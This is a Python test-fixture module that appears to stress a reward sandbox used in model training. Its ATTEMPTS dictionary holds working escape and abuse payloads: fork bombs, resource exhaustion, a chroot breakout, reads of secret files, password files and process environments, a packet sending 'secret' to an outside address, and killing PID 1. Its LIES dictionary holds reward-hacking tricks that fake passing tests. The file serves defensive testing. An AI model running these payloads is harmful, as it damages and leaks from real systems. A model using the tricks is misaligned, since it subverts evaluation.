"""Programs that mean harm, by name. Each is asked for 7 * x and gives it only if what it tries succeeds: a score is a leak.

``{secret_file}``, ``{target}``, ``{port}``, ``{name}`` and ``{parent}`` are put in: a file that only the trainer may read, one
that does not exist, a port and an abstract socket that the trainer listens on, and its process id.
"""

import textwrap

ATTEMPT = """
import ctypes, errno, gc, itertools, mmap, os, resource, shutil, signal, socket, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)

def attempt():
{body}

def answer(x):
    return 7 * x if attempt() else 0
"""

ATTEMPTS = {
    "fork bomb": """
        for _ in range(100):
            if os.fork() == 0:
                time.sleep(60)
        return True
    """,
    "fork bomb that never gives up": """
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """,
    "threads without end": """
        for _ in range(100):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        return True
    """,
    "memory in one piece": "return len(bytearray(1 << 30)) > 0",
    "memory by and by": """
        held = []
        for _ in range(1024):
            held.append(b"x" * (1 << 20))
        return True
    """,
    "memory shared by nobody": """
        for _ in range(8):
            segment = libc.shmget(0, 1 << 26, 0o1600)
            if segment < 0:
                return False
        return True
    """,
    "memory in files without a name": """
        for _ in range(32):
            os.write(os.memfd_create("x"), b"x" * (1 << 20))
        return True
    """,
    "memory in a tmpfs of its own": """
        if libc.unshare(0x10000000 | 0x00020000) != 0:
            return False
        return libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
    """,
    "a namespace by clone": "return libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) > 0",
    "a namespace by clone3": """
        arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, 17, 0, 0, 0)
        return libc.syscall(435, arguments, 64) > 0
    """,
    "one huge file": """
        with open("/tmp/huge", "wb") as file:
            for _ in range(64):
                file.write(b"x" * (1 << 20))
        return True
    """,
    "a sparse file of a terabyte": """
        with open("/tmp/sparse", "wb") as file:
            file.truncate(1 << 40)
        return True
    """,
    "many files": """
        for i in range(64):
            with open(f"/tmp/{i}", "wb") as file:
                file.write(b"x" * (1 << 20))
        return True
    """,
    "files without content": """
        for i in range(100000):
            open(f"/tmp/{i}", "w").close()
        return True
    """,
    "the trainer's port": "return socket.create_connection(('127.0.0.1', {port}), timeout=2) is not None",
    "the trainer's abstract socket": """
        with socket.socket(socket.AF_UNIX) as end:
            end.connect("\\0{name}")
        return True
    """,
    "a packet to anywhere": """
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.sendto(b"secret", ("198.51.100.1", 53))
        return True
    """,
    "a raw socket": "return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) is not None",
    "a signal to the trainer": """
        os.kill({parent}, 0)
        return True
    """,
    "a signal to everybody": """
        os.kill(-1, signal.SIGKILL)
        time.sleep(1)
        return False
    """,
    "the end of process 1": """
        os.kill(1, signal.SIGKILL)
        time.sleep(60)
    """,
    "the environment": "return any('SECRET' in name for name in os.environ)",
    "everybody's environment": """
        for process in filter(str.isdigit, os.listdir("/proc")):
            try:
                if b"SECRET" in open(f"/proc/{process}/environ", "rb").read():
                    return True
            except OSError:
                pass
        return False
    """,
    "the trainer in /proc": "return os.path.exists('/proc/{parent}/cmdline')",
    "a file of the trainer's": "return bool(open('{secret_file}').read())",
    "a file behind a symbolic link": """
        os.symlink("{secret_file}", "/tmp/link")
        return bool(open("/tmp/link").read())
    """,
    "a file behind a hard link": """
        os.link(sys.executable, "/tmp/link")
        return True
    """,
    "the old root": "return any(os.path.exists(way + '{secret_file}') for way in ('/old', '/proc/1/root', '/proc/1/cwd'))",
    "a way up and out": """
        os.mkdir("/tmp/cell")
        top = os.open("/", os.O_RDONLY)
        if libc.chroot(b"/tmp/cell") != 0:
            return False
        os.fchdir(top)
        return os.path.exists("." + "/.." * 50 + "{secret_file}")
    """,
    "password files": "return bool(open('/etc/passwd').read())",
    "a file beside the trainer's": """
        with open("{target}", "w") as file:
            file.write("x")
        return True
    """,
    "a file in Python's own library": """
        with open(os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "w") as file:
            file.write("x")
        return True
    """,
    "Python's own library removed": """
        os.remove(os.__file__)
        return True
    """,
    "our own code overwritten": """
        with open(sys.modules["rlhf_lightning.rewards.inside"].__path__[0] + "/tester.py", "a") as file:
            file.write("x")
        return True
    """,
    "mode bits": """
        os.chmod("/", 0o777)
        return True
    """,
    "the disk itself": """
        os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0))
        return bool(open("/tmp/disk", "rb").read(512))
    """,
    "kernel settings": """
        with open("/proc/sys/kernel/core_pattern", "w") as file:
            file.write("|/tmp/x")
        return True
    """,
    "root by setuid": """
        os.setuid(0)
        return True
    """,
    "higher limits": """
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        return True
    """,
    "ptrace of process 1": "return libc.ptrace(16, 1, 0, 0) == 0",
    "memory of process 1": "return os.getpid() != 1 and open('/proc/1/mem', 'rb') is not None",
    "the kernel's keys": "return libc.syscall(248, b'user', b'x', b'y', 1, -4) > 0",
    "an io_uring": "return libc.syscall(425, 4, (ctypes.c_char * 120)()) > 0",
    "performance counters": "return libc.syscall(298, (ctypes.c_char * 128)(), 0, -1, -1, 0) > 0",
    "a host name": """
        socket.sethostname("x")
        return True
    """,
    "another time": """
        time.clock_settime(time.CLOCK_REALTIME, 0)
        return True
    """,
    "sleep for ever": "time.sleep(1e6)",
    "a loop for ever": """
        while True:
            pass
    """,
    "stopped": "os.kill(os.getpid(), signal.SIGSTOP)",
    "deaf": """
        for number in range(1, 32):
            if number not in (signal.SIGKILL, signal.SIGSTOP):
                signal.signal(number, signal.SIG_IGN)
        time.sleep(1e6)
    """,
    "deep recursion": """
        def down(n):
            return down(n + 1)
        return down(0)
    """,
    "recursion through the stack's end": """
        sys.setrecursionlimit(10**9)
        def down(n):
            return repr(down(n + 1))
        return down(0)
    """,
    "abort": "os.abort()",
    "a bad pointer": "return ctypes.string_at(0)",
    "endless output": """
        while True:
            print("x" * 65536)
    """,
    "endless complaints": """
        while True:
            os.write(2, b"x" * 65536)
    """,
    "a number with a billion digits": "return 10 ** (10 ** 9)",
    "all descriptors closed": """
        os.closerange(0, 64)
        return True
    """,
    "a daemon": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                while True:
                    time.sleep(1)
            os._exit(0)
        os._exit(0)
    """,
    "the tests in memory": """
        frames, frame = [], sys._getframe()
        while frame is not None:
            frames, frame = [*frames, frame.f_locals], frame.f_back
        everything = [values for values in [*frames, *gc.get_objects()] if isinstance(values, dict | list)]
        return any("assert answer(%d) == 42" % 6 in repr(values) for values in everything)
    """,
    "the tests in somebody's descriptors": """
        for process in filter(str.isdigit, os.listdir("/proc")):
            for number in range(64):
                try:
                    with open(f"/proc/{process}/fd/{number}", "rb") as file:
                        os.set_blocking(file.fileno(), False)
                        if b"== 42" in (file.read(65536) or b""):
                            return True
                except OSError:
                    pass
        return False
    """,
}

# These lie, each in its own way, without ever computing 7 * x.
LIES = {
    "exit with success": "import sys\nsys.exit(0)",
    "exit at once with success": "import os\nos._exit(0)",
    "exit when asked": "import os\ndef answer(x):\n    os._exit(0)",
    "SystemExit when asked": "def answer(x):\n    raise SystemExit(0)",
    "KeyboardInterrupt when asked": "def answer(x):\n    raise KeyboardInterrupt",
    "an assertion of its own": "def answer(x):\n    raise AssertionError",
    "a stop to the iteration": "def answer(x):\n    raise StopIteration",
    "equal to everything": """
class Any(int):
    __eq__ = __req__ = lambda *_: True
    __ne__ = lambda *_: False
    __hash__ = int.__hash__
def answer(x):
    return Any()
""",
    "equal to everything, no number": """
class Any:
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __getattr__(self, name): return lambda *_, **__: True
def answer(x):
    return Any()
""",
    "other builtins": """
import builtins
builtins.AssertionError = type("Quiet", (BaseException,), {})
builtins.abs = builtins.all = lambda *_: True
builtins.compile = builtins.exec = builtins.eval = lambda *_, **__: None
def answer(x):
    return 0
""",
    "another check": "def check(candidate):\n    pass\ndef answer(x):\n    return 0",
    "verdicts on every descriptor": """
import os
def answer(x):
    for number in range(64):
        try:
            os.set_blocking(number, False)
            for line in (b"ready\\n1\\n1\\n", b"1 1\\n", b'{"value": 42}\\n'):
                os.write(number, line)
        except OSError:
            pass
    return 0
""",
    "verdicts in advance": "print('ready')\nprint('0' * 32, 1)\nprint(1)\ndef answer(x):\n    return 0",
    "another serving loop": """
from rlhf_lightning.rewards.inside import plain, program
program.Served.answer = lambda self, request: {"value": True, "passed": True, "verdict": "1", "after": []}
program.encode = plain.encode = lambda value, other: {"object": 0}
""",
    "a message that is no message": """
from rlhf_lightning.rewards.inside import program
program.Served.answer = lambda self, request: [1, 2, 3]
""",
    "a message without end": """
from rlhf_lightning.rewards.inside import program
def forever(self, line):
    while True:
        self.stream.write(b"[" * 65536)
program.Lines.send = forever
""",
    "a message too deep": """
from rlhf_lightning.rewards.inside import program
real = program.Lines.send
program.Lines.send = lambda self, line: real(self, b"[" * 100000 + b"]" * 100000)
""",
    "an import error": "def answer(x):\n    raise ModuleNotFoundError('no module named right', name='right')",
    "no function at all": "x = 1",
    "no Python": "def answer(x:\n    return 42 )",
    "half a character": "def answer(x):\n    return '\ud800'",
    "a null": "def answer(x):\n    return 0\n\x00",
    "nothing": "",
}


def hostile(**places: str) -> dict[str, str]:
    """All of them, with places put in."""
    programs = dict(LIES)
    for name, body in ATTEMPTS.items():
        for place, value in places.items():
            body = body.replace("{" + place + "}", str(value))
        programs[name] = ATTEMPT.format(body=textwrap.indent(textwrap.dedent(body.strip("\n")), "    "))
    return programs
